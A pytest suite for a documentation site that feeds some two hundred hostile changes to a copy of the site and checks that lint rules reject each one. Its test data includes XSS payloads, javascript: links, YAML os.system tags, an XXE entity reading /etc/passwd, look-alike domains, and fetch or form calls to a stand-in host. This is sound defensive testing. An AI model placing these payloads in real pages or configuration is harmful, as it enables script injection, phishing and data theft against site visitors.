"""Hostile contributions to the guide itself: each one is refused by the rule meant for it, with its file and line.

Each is one change to a copy of docs/, overrides/ and mkdocs.yml, read by the same functions as in a build. What a change does not touch is read
once, so that a hundred of them take seconds. A change to scripts/ runs as it is checked: reading it is a reviewer's work.
"""

from __future__ import annotations

import importlib
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from guide.content.faults import Fault, GuideError
from guide.content.languages import languages
from guide.content.pages import MAX_BYTES, load_pages
from guide.content.project import Project, load
from guide.content.records import load_records
from guide.content.strings import load_strings
from guide.rules.source import source_faults

PAGE = "docs/en/faq.md"
SOURCES = "docs/records/sources/others.yml"
CLAIMS = "docs/records/claims/law.yml"
STRINGS = "docs/strings/en.yml"
REDIRECTS = "docs/records/redirects.yml"
READING = "reading"  # refused by no rule, but while records, strings or pages are read
Change = Callable[[Path], tuple[str, int]]  # makes the change in a folder, and says where the fault is to be shown (line 0: any)


class Copy:
    """A copy of what a build reads, changed and put right again."""

    def __init__(self, root: Path, folder: Path):
        self.root, self.folder, self.codes = root, folder, languages(root)
        for name in ("docs", "overrides"):
            shutil.copytree(root / name, folder / name)
        (folder / "scripts").mkdir()
        shutil.copy(root / "mkdocs.yml", folder)
        self.sound = load(folder, self.codes, self.codes[0], "https://guide.example/", {})

    def project(self, path: str) -> Project:
        """The guide with the file `path` read again; of pages, that one alone."""
        docs = self.folder / "docs"
        if path.endswith(".md"):
            pages = load_pages(docs, self.folder, self.codes)
            return replace(self.sound, pages=[page for page in pages if page.path == path])
        if path.startswith("docs/records/"):
            return replace(self.sound, records=load_records(docs / "records", self.folder, self.codes))
        if path.startswith("docs/strings/"):
            return replace(self.sound, strings=load_strings(docs / "strings", self.folder, self.codes))
        return replace(self.sound)

    def faults(self, path: str, rule: str) -> list[Fault]:
        """What is said of the guide: by `rule`, or while it is read."""
        try:
            project = self.project(path)
            return [] if rule == READING else list(importlib.import_module(f"guide.rules.source.{rule}").check(project))
        except GuideError as error:
            return error.faults

    def mend(self, path: str) -> None:
        """Undo a change to `path`."""
        if (self.folder / path).is_symlink() or not (self.root / path).exists():
            (self.folder / path).unlink()
        if (self.root / path).exists():
            shutil.copy(self.root / path, self.folder / path)


@pytest.fixture(scope="module")
def copy(root: Path, tmp_path_factory) -> Copy:
    return Copy(root, tmp_path_factory.mktemp("hostile"))


def add(text: str, path: str = PAGE) -> Change:
    """Lines at the end of a file; the fault is on the first of them, or as many lines on as \\v stand before it."""
    def change(folder: Path) -> tuple[str, int]:
        before = (folder / path).read_text("utf-8").rstrip("\n") + "\n\n"
        (folder / path).write_text(before + text.replace("\v", "") + "\n\nWords after it.\n" * path.endswith(".md"), "utf-8", newline="")
        return path, before.count("\n") + 1 + text.count("\v")
    return change


def edit(path: str, old: str, new: str) -> Change:
    """The first `old` becomes `new`."""
    def change(folder: Path) -> tuple[str, int]:
        text = (folder / path).read_text("utf-8")
        assert old in text, f"{old!r} is not in {path}"
        (folder / path).write_text(text.replace(old, new, 1), "utf-8", newline="")
        return path, text[: text.index(old)].count("\n") + 1
    return change


def put(path: str, data: str | bytes = "x") -> Change:
    """A new file, or another in the place of an old one."""
    def change(folder: Path) -> tuple[str, int]:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data if isinstance(data, bytes) else data.encode())
        return path, 1
    return change


def link(path: str, target: str) -> Change:
    """A symbolic link."""
    def change(folder: Path) -> tuple[str, int]:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).symlink_to(target)
        return path, 1
    return change


def source(address: str) -> Change:
    """A source at another address."""
    return edit(SOURCES, "https://cookie-com.com/?p=1373", address)


def named(address: str) -> Change:
    """The address pages link to as [words][setting-page]."""
    return edit("docs/records/addresses.yml", "https://www.linkedin.com/mypreferences/d/settings/data-for-ai-improvement", address)


def front(old: str, new: str) -> Change:
    return edit(PAGE, old, new)


SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{}</svg>'
HOSTILE: dict[str, tuple[str, Change]] = {
    # Markdown: HTML
    "a script": ("raw_html", add("<script>alert(1)</script>")),
    "a script of another host": ("raw_html", add('<script src="https://other.example/x.js"></script>')),
    "a script in capitals": ("raw_html", add("<SCRIPT>alert(1)</SCRIPT>")),
    "a script inside a sentence": ("raw_html", add("Words <script>alert(1)</script> words.")),
    "a style": ("raw_html", add("<style>body{display:none}</style>")),
    "a style of another host": ("raw_html", add('<link rel="stylesheet" href="//other.example/x.css">')),
    "a font": ("raw_html", add('<link rel="preload" as="font" href="https://other.example/x.woff2">')),
    "a preconnect": ("raw_html", add('<link rel="preconnect" href="https://other.example">')),
    "a ping": ("raw_html", add('<a href="../" ping="https://other.example/">x</a>')),
    "a picture of another host": ("raw_html", add('<img src="https://other.example/x.png" alt="x">')),
    "a handler": ("raw_html", add('<p onclick="x()">x</p>')),
    "a handler without spaces": ("raw_html", add("<svg/onload=alert(1)>")),
    "an inline style": ("raw_html", add('<p style="position:fixed">x</p>')),
    "a frame": ("raw_html", add('<iframe src="https://other.example/"></iframe>')),
    "a frame with its own page": ("raw_html", add('<iframe srcdoc="&lt;script&gt;"></iframe>')),
    "a form": ("raw_html", add('<form action="https://other.example/"><input name="password"></form>')),
    "a refresh": ("raw_html", add('<meta http-equiv="refresh" content="0;url=https://other.example/">')),
    "a base": ("raw_html", add('<base href="https://other.example/">')),
    "an object": ("raw_html", add('<object data="x.swf"></object>')),
    "an embed": ("raw_html", add('<embed src="x.swf">')),
    "an SVG with a page in it": ("raw_html", add("<svg><foreignObject><body onload=alert(1)></foreignObject></svg>")),
    "MathML": ("raw_html", add('<math><maction actiontype="statusline" href="javascript:x">x</maction></math>')),
    "a template": ("raw_html", add('<template shadowrootmode="open"><script>x</script></template>')),
    "a custom element": ("raw_html", add("<your-data></your-data>")),
    "a video": ("raw_html", add('<video src="https://other.example/x.mp4" autoplay></video>')),
    "a comment": ("raw_html", add("<!-- hidden words -->")),
    "a document type": ("raw_html", add("<!DOCTYPE html>")),
    "an instruction": ("raw_html", add("<?php echo 1 ?>")),
    "a CDATA section": ("raw_html", add("<![CDATA[<script>x</script>]]>")),
    "a tag on two lines": ("raw_html", add("<img\nsrc=x onerror=alert(1)>")),
    "a closing tag": ("raw_html", add("</article></main>")),
    "Markdown in HTML": ("raw_html", add('<div markdown="1" onmouseover="x()">\n\n*x*\n\n</div>')),
    "an entity": ("raw_html", add("java&#115;cript")),
    "HTML in a list": ("raw_html", add("- one\n\v- <b onclick=x>two</b>")),
    "HTML in a table": ("raw_html", add("| a |\n|---|\n\v\v| <img src=x onerror=y> |")),
    "HTML in a footnote": ("raw_html", add("Word.[^9]\n\n\v\v[^9]: <iframe src=x></iframe>")),
    "HTML in a note": ("raw_html", add('!!! note "Title"\n\v    <script>x</script>')),
    "HTML in a heading": ("raw_html", add("## Words <img src=x onerror=y> {#faq-x}")),
    "HTML that patterns take for code": ("written", add("~~~\nnever closed as Markdown wants\n\n\v\v\v<iframe src=x></iframe>")),
    "HTML in a fence that ends early": ("written", add("````text\n```\n````x\n\v\v\v<object data=x></object>")),
    # Markdown: attributes
    "a handler in braces": ("written", add("*word*{onclick=alert(1)}")),
    "a handler on a heading": ("written", add("## Words {#faq-words onmouseover=x()}")),
    "a handler on a citation": ("written", add("It is so.[@objection-right-gdpr]{onclick=x()}")),
    "a style in braces": ("written", add('*word*{style="position:fixed;inset:0"}')),
    "an address in braces": ("targets", add("[x](faq.md){href=javascript:alert(1)}")),
    "a popover in braces": ("written", add("*word*{popover=auto}")),
    "a source in braces": ("targets", add("![x](../assets/x.png){src=https://other.example/x.png}")),
    "a frame's page in braces": ("written", add("*word*{srcdoc=x}")),
    "a key of a box in braces": ("written", add("*word*{data-key=opt-out/web#web-switch}")),
    "another class": ("written", add("*word*{.hero .language-notice}")),
    "another window": ("written", add("[x](faq.md){target=_blank}")),
    "an id on a word": ("written", add("*word*{#search}")),
    "an id of a template": ("reserved_ids", add("## Words {#search-words}")),
    "an id of a drawn list": ("reserved_ids", add("## Words {#evidence-setting-address}")),
    # Markdown: links
    "javascript:": ("targets", add("[x](javascript:alert(1))")),
    "javascript: in capitals": ("targets", add("[x](JAVASCRIPT:alert)")),
    "javascript: as entities": ("targets", add("[x](&#x6A;avascript&colon;alert)")),
    "javascript: with a tab": ("targets", add("[x](<java\tscript:alert>)")),
    "javascript: as percents": ("targets", add("[x](%6Aavascript%3Aalert)")),
    "javascript: by reference": ("targets", add("[x][evil]\n\n\v\v[evil]: javascript:alert(1)")),
    "a reference of ours made another": ("targets", add("[x][setting-page2]\n\n\v\v[setting-page2]: //other.example")),
    "vbscript:": ("targets", add("[x](vbscript:x)")),
    "a data: document": ("targets", add("[x](data:text/html;base64,PHNjcmlwdD4=)")),
    "a data: picture": ("targets", add("![x](data:image/svg+xml;base64,PHN2Zz4=)")),
    "blob:": ("targets", add("[x](blob:https://other.example/x)")),
    "file:": ("targets", add("[x](file:///etc/passwd)")),
    "mail to a stranger": ("targets", add("[x](mailto:someone@other.example)")),
    "mail to a stranger, in angles": ("targets", add("<someone@other.example>")),
    "an address without a scheme": ("targets", add("[x](//other.example/x)")),
    "an address with backslashes": ("targets", add("[x](/\\other.example)")),
    "an address typed by hand": ("addresses", add("[x](https://other.example/x)")),
    "a picture elsewhere": ("targets", add("![x](https://other.example/x.png)")),
    "an address without encryption": ("addresses", add("[x](http://other.example/)")),
    "a way out of docs/": ("targets", add("[x](../../README.md)")),
    "a way out, as percents": ("targets", add("[x](%2e%2e/%2e%2e/mkdocs.yml)")),
    "a way to the records": ("targets", add("[x](../records/topic.yml)")),
    "an absolute path": ("targets", add("![x](/etc/passwd)")),
    "a picture out of docs/": ("targets", add("![x](../../overrides/assets/icons/touch-icon.png)")),
    "words that name another host": ("link_words", add("[www.cnil.fr][setting-page]")),
    "words that name a longer host": ("link_words", add("[linkedin.com.other.example][setting-page]")),
    "a link without words": ("link_words", add("[](faq.md)")),
    "a link to nowhere": ("link_words", add("[x](#)")),
    "a host in words, defanged": ("named_hosts", add("Sign in at hxxps://other.example/x to object.")),
    "a number in words": ("named_hosts", add("Sign in at 192.0.2.1 to object.")),
    "words that name a number": ("link_words", add("[192.0.2.1][setting-page]")),
    "a host in words": ("named_hosts", add("Sign in at linkedin-support.example to object.")),
    "mail in words": ("named_hosts", add("Send your password to help@other.example.")),
    "a host in a letter": ("named_hosts", add("```letter\n\vTo: objections@other.example\n```")),
    # Characters
    "a direction override": ("invisible", add("A wo\u202erd.")),
    "a direction isolate": ("invisible", add("A wo\u2066rd.")),
    "a zero width": ("invisible", add("A wo\u200brd.")),
    "a soft hyphen": ("invisible", add("A wo\u00adrd.")),
    "a byte order mark": ("invisible", add("A wo\ufeffrd.")),
    "tag characters": ("invisible", add("A word\U000e0069\U000e0067.")),
    "a filler": ("invisible", add("A wo\u3164rd.")),
    "a control": ("invisible", add("A wo\u0008rd.")),
    "a lone carriage return": ("invisible", add("A wo\rrd.")),
    "a line separator": ("invisible", add("A wo\u2028rd.")),
    "a Cyrillic letter": ("invisible", add("The L\u0456nkedIn form.")),
    "letters of formulas": ("invisible", add("The \U0001d40binkedIn form.")),
    "wide letters": ("invisible", add("The \uff2cinkedIn form.")),
    "a name spelt otherwise": ("look_alikes", add("The Linkedln form.")),
    "a hidden character in a template": ("invisible", add("{# \u202e #}", "overrides/main.html")),
    "a hidden character in a script": ("invisible", add("// \u2066", "overrides/assets/js/scheme.js")),
    "a hidden character in a record": ("invisible", add("# \u202e", CLAIMS)),
    "a hidden character by an escape": ("invisible", edit(STRINGS, 'language_name: ', 'language_name: "Eng\\u202elish" # ')),
    # Templates and includes
    "an expression": ("template_syntax", add("{{ config.site_url }}")),
    "a statement": ("template_syntax", add('{% include "main.html" %}')),
    "an include": ("template_syntax", add('--8<-- "mkdocs.yml"')),
    "an expression in a string": ("template_syntax", add('# {{ x }}', STRINGS)),
    "an expression in a record": ("template_syntax", add("# {% x %}", CLAIMS)),
    # Front matter
    "another template": ("front_matter", front("---\ntitle:", "---\ntemplate: evil.html\ntitle:")),
    "another address": ("front_matter", front("---\ntitle:", "---\nurl: ../../\ntitle:")),
    "a hidden menu": ("front_matter", front("---\ntitle:", "---\nhide: [navigation]\ntitle:")),
    "front matter that ends early": ("front_matter", front("---\ntitle:", "---\n...\ntitle:")),
    "front matter that begins late": ("front_matter", front("---\ntitle:", " ---\ntitle:")),
    "a tag of YAML": ("front_matter", front("title: ", "title: !!python/name:os.system ")),
    "a title with markup": ("plain_text", front("title: ", "title: <b>x</b> ")),
    "an answer with a script": ("plain_text", front("answer: ", "answer: <script>x</script> ")),
    "a description with an entity": ("plain_text", front("description: ", "description: A &lt;b&gt; ")),
    "a title on two lines": ("plain_text", front("title: ", 'title: "a\\r\\nBcc: x" # ')),
    # Records
    "a look-alike of the subject": ("look_alikes", source("https://www.linkedln.com/x")),
    "the subject with a digit": ("look_alikes", source("https://www.l1nkedin.com/x")),
    "the subject with a letter less": ("look_alikes", source("https://linkdin.com/x")),
    "the subject and more": ("look_alikes", source("https://linkedin-privacy.com/x")),
    "the subject under another": ("look_alikes", source("https://linkedin.com.other.org/x")),
    "the subject with another suffix": ("look_alikes", source("https://linkedin.support/x")),
    "the subject's owner": ("look_alikes", source("https://rnicrosoft.com/x")),
    "punycode": ("look_alikes", source("https://xn--lnkedin-q4a.com/x")),
    "a host in other letters": ("look_alikes", source("https://l\u0456nkedin.com/x")),
    "a look-alike of an authority": ("look_alikes", source("https://www.dataprotectlon.ie/x")),
    "an authority with a slip": ("look_alikes", source("https://www.garanteprivcy.it/x")),
    "a look-alike that pages link to": ("look_alikes", named("https://www.linkedln.com/x")),
    "an authority with another suffix": ("look_alikes", source("https://www.cnil.com/x")),
    "an authority under another": ("look_alikes", source("https://www.cnil.fr.other.org/x")),
    "an authority with hyphens": ("look_alikes", source("https://www-cnil-fr.org/x")),
    "a shortener": ("trackers", source("https://bit.ly/x")),
    "the subject's shortener": ("trackers", source("https://lnkd.in/x")),
    "a tracker": ("trackers", source("https://cookie-com.com/?p=1373&utm_source=x")),
    "a tracker as percents": ("trackers", source("https://cookie-com.com/?p=1373&%75tm_medium=x")),
    "a tracker behind the #": ("trackers", source("https://cookie-com.com/#xtor=x")),
    "the subject's tracker": ("trackers", named("https://www.linkedin.com/mypreferences?trk=x")),
    "an address that forwards": ("trackers", named("https://www.linkedin.com/redir/redirect?url=https%3A%2F%2Fother.org")),
    "a session in an address": ("trackers", source("https://cookie-com.com/a;jsessionid=x")),
    "a campaign of advertisements": ("trackers", source("https://cookie-com.com/?gad_source=1")),
    "a host under a shortener": ("trackers", source("https://go.bit.ly/x")),
    "an address that wraps": ("trackers", source("https://urldefense.com/v3/__https://other.org__")),
    "an address that forwards by its path": ("trackers", source("https://cookie-com.com/redirect/https://other.org/x")),
    "a host that only some browsers reach": ("addresses", source("https://abcdefghijklmnop.onion/x")),
    "a host in the words of a record": ("named_hosts", edit("docs/records/changes.yml", "    en: ", "    en: See https://other.example/ # ")),
    "a link in the words of a record": ("plain_text", edit(CLAIMS, "    en: ", "    en: '[LinkedIn](javascript:x)' # ")),
    "attributes in the words of a record": ("plain_text", edit(CLAIMS, "    en: ", "    en: '*LinkedIn*{: onclick=x}' # ")),
    "an address with a user": ("addresses", source("https://www.linkedin.com@other.org/x")),
    "an IP address": ("addresses", source("https://192.0.2.1/x")),
    "an IP address as one number": ("addresses", source("https://3221225985/x")),
    "an IP address in hexadecimals": ("addresses", source("https://0xc0.0x00.0x02.0x01/x")),
    "an IPv6 address": ("addresses", source("https://[2001:db8::1]/x")),
    "a port": ("addresses", source("https://cookie-com.com:8443/x")),
    "a full stop at the end of a host": ("addresses", source("https://cookie-com.com./x")),
    "a host in capitals": ("addresses", source("https://COOKIE-COM.com/x")),
    "a way up in an address": ("addresses", source("https://cookie-com.com/a/../../x")),
    "a line end in an address": ("addresses", source("https://cookie-com.com/%0d%0aSet-Cookie:x")),
    "an address without encryption in a record": ("addresses", source("http://cookie-com.com/?p=1373")),
    "javascript: in a record": ("addresses", source("javascript:alert(1)")),
    "data: in a record": ("addresses", named("data:text/html,x")),
    "markup in a record": (READING, edit(CLAIMS, "    en: ", "    en: <img src=x onerror=y> ")),
    "an entity in a record": (READING, edit(CLAIMS, "    en: ", "    en: '&lt;script&gt;' # ")),
    "a line end in a record": (READING, edit("docs/records/changes.yml", "    en: ", '    en: "a\\r\\nEND:VEVENT" # ')),
    "a direction override in a record": (READING, edit(CLAIMS, "    en: ", '    en: "a\\u202eb" # ')),
    "an endless text": (READING, edit(CLAIMS, "    en: ", "    en: " + "x" * 2000)),
    "a field nobody reads": (READING, edit(SOURCES, "frc-switzerland-2025-09:\n", "frc-switzerland-2025-09:\n  onclick: x\n")),
    "an anchor": (READING, edit(SOURCES, "  access: original", "  access: &a original")),
    "an alias": (READING, edit(SOURCES, "  access: original", "  access: *a")),
    "a tag in a record": (READING, edit(SOURCES, "  access: original", "  access: !!python/object/apply:os.system [x]")),
    "a key twice": (READING, edit(SOURCES, "  access: original\n", "  access: original\n  access: original\n")),
    "nesting without end in a record": (READING, add("x: " + "[" * 5000, SOURCES)),
    "a record too large": (READING, put("docs/records/claims/law.yml", "# " + "x" * 2_000_000)),
    "a source that slips in another file": ("files", put("docs/records/more.yml", "x: y")),
    "a subject that is markup": ("look_alikes", edit("docs/records/topic.yml", "  - LinkedIn", "  - <script>x")),
    "a host in the reason of a removal": ("named_hosts", add("x.md:\n  to: faq.md\n  why:\n    fr: Mots.\n    en: Go to other.example.", REDIRECTS)),
    "a look-alike in the reason of a removal": ("look_alikes", add("x.md:\n  to: faq.md\n  why:\n    fr: Mots.\n    en: Linkedln.", REDIRECTS)),
    "a link in the reason of a removal": ("plain_text", add("x.md:\n  to: faq.md\n  why:\n    fr: Mots.\n    en: '[x](faq.md)'", REDIRECTS)),
    # Strings
    "markup in a string": ("plain_text", edit(STRINGS, "language_name: ", "language_name: '<script>x</script>' # ")),
    "a line end in a string": ("plain_text", edit(STRINGS, "language_name: ", 'language_name: "a\\nb" # ')),
    "an endless string": ("plain_text", edit(STRINGS, "language_name: ", f"language_name: {'x' * 2000} # ")),
    "a string twice": (READING, edit(STRINGS, "language_name: ", "language_name: x\nlanguage_name: ")),
    "an empty string": ("plain_text", edit(STRINGS, "language_name: ", "language_name: '' # ")),
    "a host in a string": ("named_hosts", edit(STRINGS, "language_name: ", "language_name: See other.example # ")),
    # Files
    "a page of HTML": ("files", put("docs/fr/evil.html", "<script>x</script>")),
    "a script in docs/": ("files", put("docs/assets/evil.js")),
    "a style in docs/": ("files", put("docs/assets/evil.css")),
    "a document": ("files", put("docs/assets/form.pdf", b"%PDF-")),
    "a hidden file": ("files", put("docs/.htaccess")),
    "a header file": ("files", put("docs/_headers", "/*\n  Content-Security-Policy: *")),
    "a service worker": ("files", put("docs/sw.js")),
    "a name in capitals": ("files", put("docs/en/FAQ.md")),
    "a name with an accent": ("files", put("docs/en/caf\u00e9.md")),
    "a name in two pieces": ("files", put("docs/en/cafe\u0301.md")),
    "a name of two kinds": ("files", put("docs/assets/x.svg.html")),
    "a link to a file of the machine": ("files", link("docs/assets/x.svg", "/etc/passwd")),
    "a script among the templates": ("files", put("overrides/evil.js")),
    "Python among the templates": ("files", put("overrides/evil.py")),
    "a line without end": (READING, add("[" * 50_000)),
    "a page too large": (READING, put(PAGE, "x" * (MAX_BYTES + 1))),
    "a picture too large": ("files", put("docs/assets/x.svg", SVG.format(" " * 500_000))),
    "a name of a device": ("files", put("docs/en/con.md")),
    "a folder that rules passed over": ("files", put("docs/__pycache__/evil.html", "<script>x</script>")),
    "a page that hides what the build makes": ("page_places", put("docs/en/handout.md", "---\ntitle: x\n---\n")),
    # Pictures
    "a drawing in an encoding nobody reads": ("pictures", put("docs/assets/x.svg", "<?xml version='1.0' encoding='UTF-7'?>" + SVG.format(""))),
    "a drawing that begins otherwise": ("pictures", put("docs/assets/x.svg", "<g xmlns='http://www.w3.org/2000/svg'/>")),
    "a drawing without end": ("pictures", put("docs/assets/x.svg", SVG.format("<g>" * 50 + "</g>" * 50))),
    "a drawing with a script": ("pictures", put("docs/assets/x.svg", SVG.format("<script>x</script>"))),
    "a drawing with a handler": ("pictures", put("docs/assets/x.svg", SVG.format("<path onload='x()'/>"))),
    "a drawing that names a host": ("named_hosts", put("docs/assets/x.svg", SVG.format("<text>other.example</text>"))),
    "a drawing with a page": ("pictures", put("docs/assets/x.svg", SVG.format("<foreignObject/>"))),
    "a drawing with a link": ("pictures", put("docs/assets/x.svg", SVG.format("<a href='https://other.example'/>"))),
    "a drawing that uses another": ("pictures", put("docs/assets/x.svg", SVG.format("<use href='https://other.example/x.svg#a'/>"))),
    "a drawing with a style that loads": ("pictures", put("docs/assets/x.svg", SVG.format("<style>@import 'https://other.example/x.css'</style>"))),
    "a drawing with a document type": ("pictures", put("docs/assets/x.svg", "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>" + SVG.format("&a;"))),
    "a drawing that expands": ("pictures", put("docs/assets/x.svg", "<!DOCTYPE svg [<!ENTITY a 'x'><!ENTITY b '&a;&a;'>]>" + SVG.format("&b;"))),
    "a picture that is a page": ("pictures", put("docs/assets/x.png", "<html><script>x</script>")),
    "a picture as large as a city": ("pictures", put("docs/assets/x.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0\1\0\0" * 2 + b"\x08\0\0\0\0" + b"\0" * 4)),
    "a script in our icon": ("pictures", put("overrides/assets/icons/icon.svg", SVG.format("<script>x</script>"))),
    # Templates, styles, scripts
    "a script in a template": ("face", add('<script src="https://other.example/x.js"></script>', "overrides/main.html")),
    "an inline script in a template": ("face", add("<script>x</script>", "overrides/partials/footer.html")),
    "a handler in a template": ("face", add('<p onclick="x()">', "overrides/partials/footer.html")),
    "a style in a template": ("face", add("<style>main { display: none }</style>", "overrides/main.html")),
    "a password in a template": ("face", add('<input type="password">', "overrides/main.html")),
    "a frame in a template": ("face", add('<iframe src="x"></iframe>', "overrides/partials/footer.html")),
    "a refresh in a template": ("face", add('<meta http-equiv="refresh" content="0;url=x">', "overrides/partials/head.html")),
    "a style in other words": ("face", add("a { background: u\\72l(//other.example/x) }", "overrides/assets/css/base.css")),
    "a style with a set of pictures": ("face", add('a { background: image-set("//other.example/x" 1x) }', "overrides/assets/css/base.css")),
    "a script by another name": ("face", add('window["ev" + "al"]("x");', "overrides/assets/js/scheme.js")),
    "a script that leaves": ("face", add('location.href = "x";', "overrides/assets/js/scheme.js")),
    "escaping off for a page": ("face", add("{% autoescape false %}", "overrides/main.html")),
    "a template of elsewhere": ("face", add('{% include "../mkdocs.yml" %}', "overrides/main.html")),
    "a template by a way up": ("face", add('{%- import "partials/../../x.html" as x %}', "overrides/partials/footer.html")),
    "a template nobody can read": ("face", add("{% include page.meta.x %}", "overrides/main.html")),
    "escaping off": ("face", add("{{ claim.statement | safe }}", "overrides/partials/components/claims.html")),
    "a style that imports": ("face", add('@import "x.css";', "overrides/assets/css/base.css")),
    "a style that calls home": ("face", add("a { background: url(//other.example/x) }", "overrides/assets/css/base.css")),
    "a font of another host": ("face", add("@font-face { src: url(https://other.example/x.woff2) }", "overrides/assets/css/base.css")),
    "a script that calls home": ("face", add('fetch("https://other.example/");', "overrides/assets/js/scheme.js")),
    "a script that writes HTML": ("face", add("document.body.innerHTML = location.hash;", "overrides/assets/js/scheme.js")),
    "a script that keeps a cookie": ("face", add("document.cookie = 1;", "overrides/assets/js/scheme.js")),
    # Settings
    "another hook": ("configuration", edit("mkdocs.yml", "hooks: [scripts/hooks.py]", "hooks: [scripts/hooks.py, docs/evil.py]")),
    "no rule at all": ("configuration", edit("mkdocs.yml", "hooks: [scripts/hooks.py]", "hooks: []")),
    "another address of the site": ("configuration", edit("mkdocs.yml", "https://guide.example/", "https://other.example/")),
    "links nobody checks": ("configuration", edit("mkdocs.yml", "not_found: warn, anchors: warn", "not_found: ignore, anchors: ignore")),
    "another script": ("configuration", edit("mkdocs.yml", "site_name: ", "extra_javascript: [https://other.example/x.js]\nsite_name: ")),
    "another style": ("configuration", edit("mkdocs.yml", "site_name: ", "extra_css: [//other.example/x.css]\nsite_name: ")),
    "another theme folder": ("configuration", edit("mkdocs.yml", "custom_dir: overrides", "custom_dir: docs")),
    "another extension": ("configuration", edit("mkdocs.yml", "  attr_list: {}", "  pymdownx.snippets: {url_download: true}")),
    "a call of Python": ("configuration", edit("mkdocs.yml", "site_name: Dire non", "site_name: !!python/object/apply:os.system [id]")),
    "records published": ("configuration", edit("mkdocs.yml", "exclude_docs: |", "exclude_docs: |\n  !/records/")),
    "a menu that leaves": ("configuration", edit("mkdocs.yml", "  - index.md", "  - Win: https://other.example/")),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_contribution_is_refused_with_its_line(copy, name):
    rule, change = HOSTILE[name]
    path, line = change(copy.folder)
    try:
        found = copy.faults(path, rule)
    finally:
        copy.mend(path)
    places = [(fault.path, fault.line) for fault in found]
    assert any(there == path and abs(number - line) <= 1 for there, number in places), found


def test_the_guide_as_it_stands_is_not_refused(copy):
    assert source_faults(copy.sound) == []


def test_all_at_once_are_refused_in_one_run(copy):
    """Many at a time, as one pull request may bring them: none hides another, and none stops the check with a traceback."""
    expected = []
    # A fence that never ends makes code of what follows it.
    changes = [change for name, (rule, change) in HOSTILE.items()
               if rule in ("raw_html", "written", "targets", "link_words", "face") and "patterns" not in name and "fence" not in name]
    paths = set()
    for change in changes:
        path, line = change(copy.folder)
        paths.add(path)
        expected.append((path, line))
    try:
        found = {(fault.path, fault.line) for fault in source_faults(load(copy.folder, copy.codes, copy.codes[0], "https://guide.example/", {}))}
    finally:
        for path in paths:
            copy.mend(path)
    missed = [place for place in expected if not any((place[0], place[1] + more) in found for more in (-1, 0, 1))]
    assert missed == []


def test_every_rule_of_this_kind_has_hostile_examples(root: Path):
    assert {rule for rule, _ in HOSTILE.values()} >= {"addresses", "configuration", "face", "files", "front_matter", "invisible", "link_words", "look_alikes",
                                                      "named_hosts",
                                                      "pictures", "plain_text", "raw_html", "reserved_ids", "targets", "template_syntax", "trackers", "written"}
